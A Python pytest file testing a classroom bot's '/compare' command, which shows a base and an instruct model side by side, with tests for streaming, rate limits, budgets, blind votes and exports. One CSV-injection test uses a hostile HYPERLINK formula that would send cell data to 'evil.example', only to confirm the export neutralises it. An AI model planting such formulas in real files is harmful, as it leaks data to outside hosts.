"""/compare through the core, against the loopback OpenAI-compatible server."""

from __future__ import annotations

import asyncio
import io
import re
import time
from dataclasses import replace

import pytest

import bot.compare.command as compare
import bot.help.command as help_command
from bot.actions import COMPARE_REVEAL, COMPARE_VOTE
from bot.app import Aula
from bot.compare.command import MIN_ANSWER_TOKENS
from bot.compare.store import CompareRepository
from bot.i18n import number, percent, t
from bot.llm.client import LlmClient, prompt_tokens, resolve_profile
from bot.llm.queue import Cooldowns, LlmTraffic, TokenBudget, Upstream
from bot.replies import Attachment, Columns, Reply, plain_text
from bot.settings import load_settings
from tests.conftest import make_request, replies_of
from tests.export_support import csv_rows, xlsx_cells, xlsx_rows
from tests.fake_clock import ManualClock, settle
from tests.fake_llm import (
    API_KEY,
    BASE_MODEL,
    DECOMMISSIONED,
    INSTRUCT_MODEL,
    FakeLlmServer,
    Fault,
    instruct_answer,
)


@pytest.fixture
async def server():
    async with FakeLlmServer(chunk_delay_s=0.002) as running:
        yield running


@pytest.fixture
async def make_aula(tmp_path, server, database_url):
    """Apps on their own databases: the first on SQLite or PostgreSQL (conftest.database_url)."""
    apps: list[Aula] = []

    async def build(**env: str) -> Aula:
        environ = {
            "AULA_DATABASE": database_url if not apps else str(tmp_path / f"aula{len(apps)}.sqlite3"),
            "AULA_LLM_BASE_URL": server.base_url,
            "AULA_LLM_API_KEY": API_KEY,
            "AULA__LLM__STREAM_UPDATE_S": "0",
        } | env
        app = Aula(load_settings(environ=environ, dotenv_path=None), commands=[help_command.command, compare.command])
        await app.start()
        apps.append(app)
        return app

    yield build
    for app in apps:
        await app.close()


def panels(reply) -> dict[str, str]:
    """Panel title -> its plain text."""
    [columns] = [p for p in reply.parts if isinstance(p, Columns)]
    return {title: plain_text(Reply(parts=parts)) for title, parts in columns.panels}


def compare_request(locale: str = "es", user_id: str = "u1", instructor: bool = False, **args):
    return make_request("compare", locale=locale, user_id=user_id, instructor=instructor, args=args)


async def test_a_comparison_streams_both_models_side_by_side_and_is_stored(make_aula, server):
    app = await make_aula()
    replies = await replies_of(app, compare_request(prompt="La inteligencia artificial es"))
    assert len(replies) > 5  # streamed: many versions, each replacing the last
    final = replies[-1]
    assert not final.error and not final.is_private
    columns = panels(final)
    base_title = f"Base · {BASE_MODEL}"
    instruct_title = f"Instruido · {INSTRUCT_MODEL}"
    assert list(columns) == [base_title, instruct_title]
    assert columns[base_title].startswith("La inteligencia artificial es un campo de la informática")
    assert columns[instruct_title].startswith("¡Claro! Sobre «La inteligencia artificial es»")
    assert "terminó por sí solo" in columns[base_title] and "⏱" in columns[base_title]
    assert re.search(r"prompt: \d+ tokens · respuesta: \d+ tokens · ~0,\d+\xa0US\$", columns[instruct_title])
    # Along the way, each panel's text only grew.
    base_texts = [panels(r)[base_title].split("⏱")[0].rstrip(" ▌\n") for r in replies]
    base_texts = [text for text in base_texts if "escribiendo" not in text and "en la fila" not in text]
    assert len(base_texts) > 3
    assert all(b.startswith(a) for a, b in zip(base_texts, base_texts[1:], strict=False))
    assert any("▌" in panels(r)[base_title] for r in replies[:-1])

    [row] = await app.db.fetchall("SELECT * FROM compare_runs")
    assert row["user_id"] == "u1" and row["profile"] == "default" and not row["blind"]
    outputs = {o["role"]: o for o in await app.db.fetchall("SELECT * FROM compare_outputs")}
    assert outputs["base"]["model"] == BASE_MODEL and outputs["instruct"]["model"] == INSTRUCT_MODEL
    assert outputs["base"]["text"] in columns[base_title]
    assert outputs["instruct"]["prompt_tokens"] == 7 and outputs["instruct"]["completion_tokens"] > 0
    assert outputs["base"]["latency_s"] > 0 and outputs["base"]["cost_usd"] > 0
    assert outputs["base"]["finish_reason"] == "stop"
    assert server.upstream_calls("/v1/completions") == 1 and server.upstream_calls("/v1/chat/completions") == 1


async def test_both_calls_run_at_once(tmp_path):
    async with FakeLlmServer(chunk_delay_s=0.01, first_chunk_delay_s=0.3) as server:
        environ = {
            "AULA_DATABASE": str(tmp_path / "aula.sqlite3"),
            "AULA_LLM_BASE_URL": server.base_url,
            "AULA_LLM_API_KEY": API_KEY,
        }
        app = Aula(load_settings(environ=environ, dotenv_path=None), commands=[compare.command])
        await app.start()
        try:
            started = time.perf_counter()
            replies = await replies_of(app, compare_request(prompt="Hola"))
            wall = time.perf_counter() - started
        finally:
            await app.close()
    latencies = [float(text.split("⏱ ")[1].split(" s")[0].replace(",", ".")) for text in panels(replies[-1]).values()]
    assert min(latencies) >= 0.3
    assert wall < sum(latencies) * 0.75  # about the slower call, not the sum


async def test_the_capital_example_gives_each_model_its_own_form(make_aula, server):
    app = await make_aula()
    final = (await replies_of(app, compare_request(ejemplo="capital")))[-1]
    text = plain_text(final)
    assert "Prompt de Base: El capital de Francia es" in text
    assert "Prompt de Instruido: ¿Cuál es la capital de Francia?" in text
    bodies = {path: body for path, body in server.calls}
    assert bodies["/v1/completions"]["prompt"] == "El capital de Francia es"
    assert bodies["/v1/chat/completions"]["messages"] == [{"role": "user", "content": "¿Cuál es la capital de Francia?"}]


async def test_cut_at_max_tokens_is_said_in_english_too(make_aula):
    app = await make_aula(AULA__LLM__MAX_TOKENS="5")
    final = (await replies_of(app, compare_request(locale="en", prompt="Explain")))[-1]
    assert "cut at max_tokens (5)" in plain_text(final)
    assert "Base vs Instruct" in plain_text(final)
    assert "completion: 5 tokens" in plain_text(final)


async def test_a_provider_that_ignores_max_tokens_is_named_with_what_was_asked_and_received(make_aula, server):
    server.ignore_max_tokens = True
    app = await make_aula(AULA__LLM__MAX_TOKENS="5")
    final = (await replies_of(app, compare_request(prompt="Explain")))[-1]
    received = len(instruct_answer("Explain").split(" "))
    text = panels(final)["Instruido · " + INSTRUCT_MODEL]
    assert f"se pidió max_tokens 5 y llegaron {received} tokens" in text
    assert "cortado en max_tokens (5)" not in text
    english = (await replies_of(app, compare_request(locale="en", prompt="Explain", user_id="s9")))[-1]
    assert f"asked max_tokens 5, received {received} tokens" in plain_text(english)


async def test_no_key_says_how_to_set_one_and_other_commands_work(tmp_path):
    settings = load_settings(environ={"AULA_DATABASE": str(tmp_path / "a.sqlite3")}, dotenv_path=None)
    app = Aula(settings, commands=[help_command.command, compare.command])
    await app.start()
    try:
        [reply] = await replies_of(app, compare_request(prompt="Hola"))
        [help_reply] = await replies_of(app, make_request("help"))
    finally:
        await app.close()
    assert reply.error and reply.is_private
    assert "AULA_LLM_API_KEY / HYPERBOLIC_API_KEY" in plain_text(reply)
    assert not help_reply.error and "/compare" in plain_text(help_reply)


async def test_invalid_key(make_aula, server):
    app = await make_aula(AULA_LLM_API_KEY="wrong")
    final = (await replies_of(app, compare_request(prompt="Hola")))[-1]
    assert final.error
    assert all("rechazó la clave de API" in text for text in panels(final).values())


async def test_unknown_model_is_named(make_aula):
    app = await make_aula(AULA_INSTRUCT_MODEL="meta-llama/no-such-model")
    final = (await replies_of(app, compare_request(prompt="Hola")))[-1]
    texts = panels(final)
    assert "no tiene el modelo «meta-llama/no-such-model»" in texts["Instruido · meta-llama/no-such-model"]
    assert "terminó por sí solo" in texts[f"Base · {BASE_MODEL}"]  # the other side still answers
    assert not final.error


async def test_decommissioned_provider_names_the_setting_that_switches(make_aula, server):
    server.faults.extend([DECOMMISSIONED, DECOMMISSIONED])
    app = await make_aula()
    final = (await replies_of(app, compare_request(prompt="Hola")))[-1]
    assert final.error
    for text in panels(final).values():
        assert "40401" in text and "AULA_LLM_BASE_URL" in text and "perfil:" in text


async def test_429_is_retried_after_retry_after_then_answers(make_aula, server):
    app = await make_aula()
    delays: list[float] = []

    async def no_wait(seconds: float) -> None:
        delays.append(seconds)

    app.services.llm = LlmClient(app.settings.llm, resolve_profile(app.settings), sleep=no_wait)
    server.faults.append(Fault(status=429, retry_after="3", path="/v1/completions"))
    final = (await replies_of(app, compare_request(prompt="Hola")))[-1]
    assert not final.error and delays == [3.0]
    assert server.upstream_calls("/v1/completions") == 2
    server.faults.extend(Fault(status=429, path="/v1/completions") for _ in range(4))
    final = (await replies_of(app, compare_request(prompt="Otra", user_id="u2")))[-1]
    assert "HTTP 429" in panels(final)[f"Base · {BASE_MODEL}"]


async def test_a_stream_cut_midway_keeps_what_arrived(make_aula, server):
    server.faults.append(Fault(disconnect_after=2, path="/v1/chat/completions"))
    app = await make_aula()
    final = (await replies_of(app, compare_request(prompt="Hola")))[-1]
    instruct = panels(final)[f"Instruido · {INSTRUCT_MODEL}"]
    assert instruct.startswith("¡Claro! Sobre «Hola»:")
    assert "la conexión se cayó a mitad de la respuesta" in instruct
    row = await app.db.fetchone("SELECT * FROM compare_outputs WHERE role = 'instruct'")
    assert row["finish_reason"] == "interrupted" and row["interruption"] == "disconnected"
    assert row["text"] == "¡Claro! Sobre «Hola»: es"  # the two chunks that arrived


async def test_a_prompt_longer_than_the_context_is_refused_before_calling(make_aula, server):
    app = await make_aula(AULA__LLM__CONTEXT_WINDOW="250")
    [reply] = await replies_of(app, compare_request(prompt="palabra " * 100))
    assert reply.error and "tokens" in plain_text(reply) and "Acórtalo" in plain_text(reply)
    assert server.calls == []


async def test_prompt_or_example_is_needed_but_not_both(make_aula):
    app = await make_aula()
    [missing] = await replies_of(app, compare_request())
    [both] = await replies_of(app, compare_request(prompt="x", ejemplo="capital"))
    assert missing.error and t("es", "compare.need_prompt") in plain_text(missing)
    assert both.error and t("es", "compare.prompt_and_example") in plain_text(both)


async def test_cooldown_for_students_not_for_instructors(make_aula):
    app = await make_aula(AULA__LLM__USER_COOLDOWN_S="60")
    assert not (await replies_of(app, compare_request(prompt="Uno")))[-1].error
    [again] = await replies_of(app, compare_request(prompt="Dos"))
    assert again.error and t("es", "compare.cooldown", seconds=60) in plain_text(again)
    for _ in range(2):
        assert not (await replies_of(app, compare_request(prompt="Tres", user_id="prof", instructor=True)))[-1].error


async def test_daily_token_budget_per_class(make_aula, server):
    """The worst case (prompts + 2 × max_tokens) is reserved; with less left, each answer gets
    what fits (said in the reply); below a short answer each, the refusal says what is left and needed."""
    app = await make_aula(AULA__LLM__DAILY_TOKEN_BUDGET="250", AULA__LLM__MAX_TOKENS="100")
    assert not (await replies_of(app, compare_request(prompt="Uno", user_id="a")))[-1].error
    used = await CompareRepository(app.db).tokens_used_since("console", "local", 0)
    assert 0 < used < 250
    room = (250 - used - 12) // 2  # 12 prompt tokens for the two sides
    second = (await replies_of(app, compare_request(prompt="Dos", user_id="b")))[-1]
    assert not second.error and f"cada respuesta se limita a {room} tokens" in plain_text(second)
    assert f"Se reservan {12 + 2 * room} tokens (el peor caso)" in plain_text(second)
    bodies = [body for path, body in server.calls if path == "/v1/completions"]
    assert [b["max_tokens"] for b in bodies] == [100, room]
    while True:  # spend the rest
        reply = (await replies_of(app, compare_request(prompt="Otra", user_id=f"c{len(server.calls)}")))[-1]
        if reply.error:
            break
    used = await CompareRepository(app.db).tokens_used_since("console", "local", 0)
    assert f"A la clase le quedan {250 - used} de los 250 tokens de hoy ({used} ya usados" in plain_text(reply)
    prompts = prompt_tokens(prompt="Otra") + prompt_tokens(messages=[{"role": "user", "content": "Otra"}])
    assert f"necesita al menos {prompts + 2 * MIN_ANSWER_TOKENS}" in plain_text(reply)


async def test_a_small_budget_still_lets_the_first_comparison_through(make_aula, server):
    """Issue 14.9: with a budget of 60, the first /compare prompt:Hola was refused "0 de 60"."""
    app = await make_aula(AULA__LLM__DAILY_TOKEN_BUDGET="60")
    final = (await replies_of(app, compare_request(prompt="Hola")))[-1]
    assert not final.error and "cada respuesta se limita a 24 tokens" in plain_text(final)
    assert all(b["max_tokens"] == 24 for _, b in server.calls if _.endswith("completions"))
    # Both calls ended: nothing stays reserved, the class's budget holds only what was used.
    used = await CompareRepository(app.db).tokens_used_since("console", "local", 0)
    assert app.services.llm_traffic.budget.left(("console", "local"), used) == 60 - used


async def test_twenty_concurrent_comparisons_from_one_student_run_one(make_aula, server):
    """Issue 13.4: the cooldown is taken before anything awaits, so a burst from one student
    makes one comparison (two provider calls), not twenty."""
    app = await make_aula(AULA__LLM__USER_COOLDOWN_S="30")
    burst = [replies_of(app, compare_request(prompt=f"Pregunta {i}")) for i in range(20)]
    results = [replies[-1] for replies in await asyncio.gather(*burst)]
    assert sum(not r.error for r in results) == 1
    assert all("Espera" in plain_text(r) for r in results if r.error)
    assert len(server.calls) == 2  # one base, one instruct
    runs = await app.db.fetchall("SELECT id FROM compare_runs")
    assert len(runs) == 1


async def test_a_failed_comparison_does_not_start_the_cooldown(make_aula, server):
    """Issue 14.8: HTTP 500 on both sides ("prueba de nuevo"), then the retry at once is served."""
    app = await make_aula(AULA__LLM__USER_COOLDOWN_S="30", AULA__LLM__MAX_RETRIES="0")
    server.faults += [Fault(status=500), Fault(status=500)]
    failed = (await replies_of(app, compare_request(prompt="Hola")))[-1]
    assert "Espera" not in plain_text(failed)
    retried = (await replies_of(app, compare_request(prompt="Hola")))[-1]
    assert not retried.error and "Espera" not in plain_text(retried)
    assert instruct_answer("Hola")[:20] in plain_text(retried)
    [again] = await replies_of(app, compare_request(prompt="Otra"))  # that one produced text: it counts
    assert again.error and "Espera" in plain_text(again)


async def test_thirty_identical_concurrent_requests_make_one_upstream_call(tmp_path):
    async with FakeLlmServer(chunk_delay_s=0.01, first_chunk_delay_s=0.2) as server:
        environ = {
            "AULA_DATABASE": str(tmp_path / "aula.sqlite3"),
            "AULA_LLM_BASE_URL": server.base_url,
            "AULA_LLM_API_KEY": API_KEY,
        }
        app = Aula(load_settings(environ=environ, dotenv_path=None), commands=[compare.command])
        await app.start()
        try:
            results = await asyncio.gather(
                *(replies_of(app, compare_request(ejemplo="pregunta", user_id=f"s{i}")) for i in range(30))
            )
            runs = await app.db.fetchall("SELECT * FROM compare_runs")
            shared = await app.db.fetchone("SELECT SUM(shared), COUNT(*) FROM compare_outputs")
            used = await CompareRepository(app.db).tokens_used_since("console", "local", 0)
            everyone = await app.db.fetchone("SELECT SUM(prompt_tokens + completion_tokens) FROM compare_outputs")
        finally:
            await app.close()
    assert server.upstream_calls("/v1/completions") == 1
    assert server.upstream_calls("/v1/chat/completions") == 1
    finals = [panels(replies[-1]) for replies in results]
    assert all(not replies[-1].error for replies in results)
    assert len({tuple(v.split("⏱")[0] for v in final.values()) for final in finals}) == 1  # everyone got the same
    assert len(runs) == 30 and shared[0] == 58 and shared[1] == 60  # 2 calls paid, 58 shared
    assert used > 0 and everyone[0] == 30 * used  # the budget counts the tokens once, not 30 times


async def test_the_queue_shows_each_student_their_place(tmp_path, server):
    clock = ManualClock()
    environ = {
        "AULA_DATABASE": str(tmp_path / "aula.sqlite3"),
        "AULA_LLM_BASE_URL": server.base_url,
        "AULA_LLM_API_KEY": API_KEY,
        "AULA__LLM__REQUESTS_PER_MINUTE": "1",
        "AULA__LLM__STREAM_UPDATE_S": "0",
    }
    app = Aula(load_settings(environ=environ, dotenv_path=None), commands=[compare.command])
    app.services.llm_traffic = LlmTraffic(Upstream(clock.now, clock.sleep), Cooldowns(0, clock.now), TokenBudget(10**9))
    await app.start()
    seen: dict[str, list[str]] = {"s0": [], "s1": [], "s2": []}

    async def student(user_id: str, prompt: str) -> None:
        async for reply in app.handle(compare_request(prompt=prompt, user_id=user_id)):
            seen[user_id].append(plain_text(reply))

    try:
        tasks = [asyncio.create_task(student(f"s{i}", f"pregunta {i}")) for i in range(3)]
        for _ in range(50):
            await settle()
            if "en la fila" in "".join(seen["s2"]):
                break
            await asyncio.sleep(0.01)
        assert "#1 en la fila, ~60 s" in seen["s1"][-1]
        assert "#2 en la fila, ~120 s" in seen["s2"][-1]
        await clock.advance(60)
        await asyncio.wait_for(tasks[1], 5)
        await clock.advance(60)
        await asyncio.wait_for(asyncio.gather(*tasks), 5)
    finally:
        await app.close()
    assert "terminó por sí solo" in seen["s2"][-1]
    # First come, first served: calls reached the server in the order students asked.
    prompts = [body["prompt"] for path, body in server.calls if path == "/v1/completions"]
    assert prompts == ["pregunta 0", "pregunta 1", "pregunta 2"]


@pytest.mark.parametrize("example", sorted(compare.EXAMPLES))
async def test_in_blind_mode_both_models_get_the_same_prompt(make_aula, server, example):
    """Issue 14.11: `ejemplo:capital ciego:sí` showed "Prompt de Modelo A: ¿Cuál es la capital…"
    and "Prompt de Modelo B: El capital de Francia es": the question's side was the instruct one."""
    app = await make_aula()
    final = (await replies_of(app, compare_request(ejemplo=example, ciego=True)))[-1]
    text = plain_text(final)
    assert "Prompt de Modelo" not in text  # one prompt line for both
    bodies = {path: body for path, body in server.calls}
    sent = bodies["/v1/completions"]["prompt"]
    assert bodies["/v1/chat/completions"]["messages"] == [{"role": "user", "content": sent}]
    assert f"Prompt: {sent}" in text


async def test_blind_mode_votes_and_reveal(make_aula):
    app = await make_aula(AULA__LLM__BLIND_REVEAL_VOTES="3")
    final = (await replies_of(app, compare_request(prompt="Hola", ciego=True)))[-1]
    titles = list(panels(final))
    assert titles == ["Modelo A", "Modelo B"]
    assert BASE_MODEL not in plain_text(final) and INSTRUCT_MODEL not in plain_text(final)
    vote_a, vote_b, reveal = final.buttons
    run_id = COMPARE_VOTE.parse(vote_a.id)["run"]
    record = await CompareRepository(app.db).get(run_id)
    slot = record.instruct_slot
    assert panels(final)[f"Modelo {slot}"].startswith("¡Claro!")  # the instruct text sits where stored

    [student_reveal] = await replies_of(app, make_request("compare", user_id="v1", action=reveal.id))
    assert student_reveal.error
    [first] = await replies_of(app, make_request("compare", user_id="v1", action=vote_a.id))
    assert first.is_private and t("es", "compare.voted", slot="A", count=1, needed=3) in plain_text(first)
    [changed] = await replies_of(app, make_request("compare", user_id="v1", action=vote_b.id))
    assert t("es", "compare.voted", slot="B", count=1, needed=3) in plain_text(changed)  # one vote per student
    await replies_of(app, make_request("compare", user_id="v2", action=vote_a.id))
    [revealed] = await replies_of(app, make_request("compare", user_id="v3", action=vote_a.id))
    assert not revealed.is_private
    text = plain_text(revealed)
    right = percent("es", (2 if slot == "A" else 1) / 3)
    assert t("es", "compare.revealed", slot=slot, a=2, b=1, percent=right) in text
    assert f"{slot} · Instruido · {INSTRUCT_MODEL}" in panels(revealed)
    # After the reveal: no "Van 4 de 3 votos"; what it was, and the vote still counts.
    [late] = await replies_of(app, make_request("compare", user_id="v4", action=vote_a.id))
    assert late.is_private
    assert plain_text(late) == t("es", "compare.already_revealed", slot=slot, vote="A", count=4)
    votes = await app.db.fetchall("SELECT user_id, choice FROM compare_votes ORDER BY user_id")
    assert [tuple(v) for v in votes] == [("v1", "B"), ("v2", "A"), ("v3", "A"), ("v4", "A")]


async def test_the_instructor_reveals_when_they_want(make_aula):
    app = await make_aula()
    final = (await replies_of(app, compare_request(prompt="Hola", ciego=True)))[-1]
    reveal = final.buttons[2]
    [revealed] = await replies_of(app, make_request("compare", user_id="prof", instructor=True, action=reveal.id))
    run = await CompareRepository(app.db).get(COMPARE_REVEAL.parse(reveal.id)["run"])
    assert t("es", "compare.revealed_no_votes", slot=run.instruct_slot) in plain_text(revealed)
    run_id = COMPARE_REVEAL.parse(reveal.id)["run"]
    assert (await CompareRepository(app.db).get(run_id)).revealed


async def test_profiles_are_for_instructors(make_aula, server):
    app = await make_aula(
        AULA__LLM__PROFILES=f'{{aula_local = {{base_url = "{server.base_url}", base_model = "{BASE_MODEL}", instruct_model = "{INSTRUCT_MODEL}"}}}}'
    )
    [refused] = await replies_of(app, compare_request(prompt="Hola", perfil="aula_local"))
    assert refused.error and t("es", "compare.profile_instructor_only") in plain_text(refused)
    [unknown] = await replies_of(app, compare_request(prompt="Hola", perfil="nope", instructor=True))
    assert "default, aula_local" in plain_text(unknown)
    server.api_key = None  # a local server takes no key, and the profile sends none
    final = (await replies_of(app, compare_request(prompt="Hola", perfil="aula_local", instructor=True)))[-1]
    assert not final.error and "Perfil: aula_local" in plain_text(final)
    assert "~0,00\xa0US$" in plain_text(final)  # a local server costs nothing
    row = await app.db.fetchone("SELECT profile FROM compare_runs")
    assert row["profile"] == "aula_local"
    suggestions = await app.complete(make_request("compare", instructor=True), "perfil", "loc")
    assert suggestions == ["aula_local"]


async def test_export_is_a_csv_for_instructors(make_aula):
    app = await make_aula()
    await replies_of(app, compare_request(prompt="Hola, ¿puedes ayudarme?"))
    [refused] = await replies_of(app, compare_request(exportar=True))
    assert refused.error
    [reply] = await replies_of(app, compare_request(exportar=True, instructor=True, user_id="prof"))
    csv_file, xlsx_file = [p for p in reply.parts if isinstance(p, Attachment)]
    assert (csv_file.filename, xlsx_file.filename) == ("compare.csv", "compare.xlsx")
    rows = csv_rows(csv_file.data)
    assert [r["role"] for r in rows] == ["base", "instruct"]
    assert rows[0]["prompt"] == "Hola, ¿puedes ayudarme?" and rows[1]["text"].startswith("¡Claro!")
    # ISO 8601 with the class's offset (homework.timezone, Buenos Aires by default), not epoch seconds
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d-03:00", rows[0]["at"])
    in_xlsx = xlsx_rows(xlsx_file.data)
    assert [r["role"] for r in in_xlsx] == ["base", "instruct"] and in_xlsx[0]["at"] == rows[0]["at"]
    assert in_xlsx[0]["prompt_tokens"] == int(rows[0]["prompt_tokens"])


async def test_the_export_neutralises_formulas_from_the_prompt_the_model_and_the_name(make_aula):
    """A student's prompt, a model's text or a display name beginning with = + - @ would run as a
    formula when the instructor opens the CSV (CSV injection); the xlsx keeps them as text."""
    app = await make_aula()
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"clic")'
    request = compare_request(prompt=hostile)
    request = replace(request, user=replace(request.user, name="@SUM(1+1)"))
    await replies_of(app, request)
    [reply] = await replies_of(app, compare_request(exportar=True, instructor=True, user_id="prof"))
    csv_file, xlsx_file = [p for p in reply.parts if isinstance(p, Attachment)]
    rows = csv_rows(csv_file.data)
    assert rows[0]["prompt"] == "'" + hostile and rows[0]["user_name"] == "'@SUM(1+1)"
    assert rows[1]["text"].startswith("¡Claro!")
    sheet = xlsx_cells(xlsx_file.data)
    header = [c.value for c in sheet[0]]
    prompt = sheet[1][header.index("prompt")]
    assert prompt.value == hostile and prompt.data_type == "s"  # shown as typed, never evaluated
    assert sheet[1][header.index("user_name")].value == "@SUM(1+1)"
    assert sheet[1][header.index("prompt_tokens")].data_type == "n"  # numbers stay numbers


async def test_forget_removes_a_students_comparisons_and_votes(make_aula):
    app = await make_aula()
    final = (await replies_of(app, compare_request(prompt="Hola", ciego=True)))[-1]
    await replies_of(app, make_request("compare", user_id="u1", action=final.buttons[0].id))
    assert await CompareRepository(app.db).forget("console", "u1") == 1
    for table in ("compare_runs", "compare_outputs", "compare_votes"):
        assert (await app.db.fetchone(f"SELECT COUNT(*) FROM {table}"))[0] == 0


async def test_versions_are_spaced_by_stream_update_s_but_the_end_is_not_held_back(make_aula, server):
    server.chunk_delay_s = 0.02  # ~16 chunks per answer: ~0.3 s of streaming
    app = await make_aula(AULA__LLM__STREAM_UPDATE_S="0.12")
    started = time.perf_counter()
    stamps: list[float] = []
    async for _ in app.handle(compare_request(prompt="La inteligencia artificial es")):
        stamps.append(time.perf_counter() - started)
    streamed = stamps[1:-1]  # after the first version, before the final one
    assert 1 <= len(streamed) <= 4
    assert all(b - a >= 0.11 for a, b in zip(streamed, streamed[1:], strict=False))
    slower = max(row[0] for row in await app.db.fetchall("SELECT latency_s FROM compare_outputs"))
    # From the first version (calls just started) the end shows once complete, not at the next interval.
    assert stamps[-1] - stamps[0] - slower < 0.08


async def test_in_the_console_classroom_with_a_blind_vote(tmp_path, server):
    from adapters.console import run_console

    environ = {
        "AULA_DATABASE": str(tmp_path / "console.sqlite3"),
        "AULA_LLM_BASE_URL": server.base_url,
        "AULA_LLM_API_KEY": API_KEY,
    }
    app = Aula(load_settings(environ=environ, dotenv_path=None), commands=[compare.command])
    out = io.StringIO()
    lines = "/compare ejemplo:capital\n/compare prompt:Hola ciego:sí\n2\n".encode()
    refused = await run_console(app, user_name="ana", instructor=True, stdin=io.BytesIO(lines), stdout=out, colour=False)
    text = out.getvalue()
    assert refused == 0
    assert "Prompt de Base:* El capital de Francia es" in text
    assert f"-- Base · {BASE_MODEL} --" in text and "El capital de Francia es un campo" in text
    assert "-- Modelo A --" in text and "[1] A es el instruido" in text
    assert "Tu voto: B. Votos para revelar: 1 de 10." in text


async def test_a_line_longer_than_discords_window_allows_is_refused_up_front(tmp_path, server):
    clock = ManualClock()
    environ = {
        "AULA_DATABASE": str(tmp_path / "aula.sqlite3"),
        "AULA_LLM_BASE_URL": server.base_url,
        "AULA_LLM_API_KEY": API_KEY,
        "AULA__LLM__REQUESTS_PER_MINUTE": "1",
        "AULA__LLM__TOTAL_TIMEOUT_S": "600",  # 900 s window − 600 s call − 30 s margin: 270 s in line at most
    }
    app = Aula(load_settings(environ=environ, dotenv_path=None), commands=[compare.command])
    app.services.llm_traffic = LlmTraffic(Upstream(clock.now, clock.sleep), Cooldowns(0, clock.now), TokenBudget(10**9))
    await app.start()
    try:
        waiting = [asyncio.create_task(replies_of(app, compare_request(prompt=f"p{i}", user_id=f"s{i}"))) for i in range(5)]
        for _ in range(50):  # until all five are in line (waits of 0, 60, 120, 180, 240 s)
            await settle()
            if len(app.services.llm_traffic.upstream.calls) == 10:
                break
            await asyncio.sleep(0.01)
        [refused] = await replies_of(app, compare_request(prompt="p5", user_id="s5"))
        assert refused.error and t("es", "compare.line_too_long", minutes=5) in plain_text(refused)
        # The same question as someone in line shares their call, so it waits no longer than they do.
        shared = asyncio.create_task(replies_of(app, compare_request(prompt="p1", user_id="s6")))
        await settle()
        assert not shared.done()
        await clock.run_until(lambda: all(call.admitted for call in app.services.llm_traffic.upstream.calls.values()), step=10)
        await asyncio.wait_for(asyncio.gather(*waiting, shared), 10)  # admitted: the rest is real I/O
        assert not (await shared)[-1].error
    finally:
        await app.close()


async def test_a_database_failure_on_saving_still_shows_the_answers(make_aula, monkeypatch):
    from bot.storage import DatabaseError

    async def broken_save(self, **kwargs):
        raise DatabaseError("disk full")

    monkeypatch.setattr(CompareRepository, "save", broken_save)
    app = await make_aula()
    final = (await replies_of(app, compare_request(prompt="Hola", ciego=True)))[-1]
    assert not final.error and final.buttons == ()  # nothing stored, so nothing to vote on
    assert "¡Claro! Sobre «Hola»" in plain_text(final) and "Tiempo total" in plain_text(final)


async def test_a_hung_provider_is_bounded_by_one_deadline_and_the_real_wait_is_reported(make_aula, server):
    """Issue 14.7: a server that takes the connection and never answers kept a student 246 s
    (four 60-second attempts), then said "no respondió a tiempo (60 s)"."""
    app = await make_aula(AULA__LLM__IDLE_TIMEOUT_S="0.4", AULA__LLM__TOTAL_TIMEOUT_S="1.5",
                          AULA__LLM__MAX_RETRIES="10")  # fmt: skip
    app.services.llm = LlmClient(app.settings.llm, resolve_profile(app.settings), sleep=lambda s: asyncio.sleep(0))
    server.faults.extend(Fault(hang_s=3, path="/v1/completions") for _ in range(12))
    started = time.perf_counter()
    final = (await replies_of(app, compare_request(prompt="Hola")))[-1]
    waited = time.perf_counter() - started
    assert waited < 1.5 + 5.0  # the whole comparison, retries included, ends at its deadline (generous)
    base = panels(final)[f"Base · {BASE_MODEL}"]
    attempts = server.upstream_calls("/v1/completions")
    assert 2 <= attempts < 10  # it retried, but the deadline, not the retry count, ended it
    shown = re.search(r"lo intenté (\d+) veces y esperé (\d+,\d) s en total", base)  # the Spanish decimal comma
    assert shown, base
    elapsed = float(shown[2].replace(",", "."))
    # The real wait (shown to 0.1 s): every attempt's idle timeout, the last one possibly cut short
    # by the whole call's deadline (4 attempts then show 1,5 s, not 1,6).
    assert int(shown[1]) == attempts and min(0.4 * attempts, 1.5) - 0.05 <= elapsed <= waited + 0.05
    assert t("es", "compare.timeout_waited", count=attempts, elapsed=number("es", elapsed, 1), seconds=0.4, deadline=1.5) in base
    assert panels(final)[f"Instruido · {INSTRUCT_MODEL}"].startswith("¡Claro!")  # the other side answered


async def test_the_longest_wait_is_said_up_front_while_waiting(tmp_path, server):
    """Issue 14.7: a hung provider's whole comparison is bounded by llm.total_timeout_s, but the
    student learnt the deadline only from the final message. Now every message before it says
    the longest wait: the wait in line plus the deadline of the call."""
    clock = ManualClock()
    environ = {
        "AULA_DATABASE": str(tmp_path / "aula.sqlite3"),
        "AULA_LLM_BASE_URL": server.base_url,
        "AULA_LLM_API_KEY": API_KEY,
        "AULA__LLM__REQUESTS_PER_MINUTE": "1",
        "AULA__LLM__TOTAL_TIMEOUT_S": "100",
    }
    app = Aula(load_settings(environ=environ, dotenv_path=None), commands=[compare.command])
    app.services.llm_traffic = LlmTraffic(Upstream(clock.now, clock.sleep), Cooldowns(0, clock.now), TokenBudget(10**9))
    await app.start()
    try:
        first = [plain_text(reply) for reply in await replies_of(app, compare_request(prompt="p0", user_id="s0"))]
        # Nothing in line (the clock stands still): the deadline of the call itself.
        assert t("es", "compare.deadline", seconds=100) in first[0]
        assert "⏱️" not in first[-1]  # the final message says how it ended instead
        seen: list[str] = []

        async def second() -> None:
            async for reply in app.handle(compare_request(prompt="p1", user_id="s1")):
                seen.append(plain_text(reply))

        task = asyncio.create_task(second())
        for _ in range(50):
            await settle()
            if seen:
                break
            await asyncio.sleep(0.01)
        # One call a minute per model: 60 s in line, then at most 100 s for the call.
        assert t("es", "compare.deadline", seconds=160) in seen[0]
        assert t("es", "compare.queued", position=1, seconds=60) in seen[0]
        await clock.run_until(lambda: all(call.admitted for call in app.services.llm_traffic.upstream.calls.values()), step=10)
        await asyncio.wait_for(task, 10)
        assert "⏱️" not in seen[-1] and not any(t("es", "compare.deadline", seconds=s) in seen[-1] for s in (100, 160))
    finally:
        await app.close()
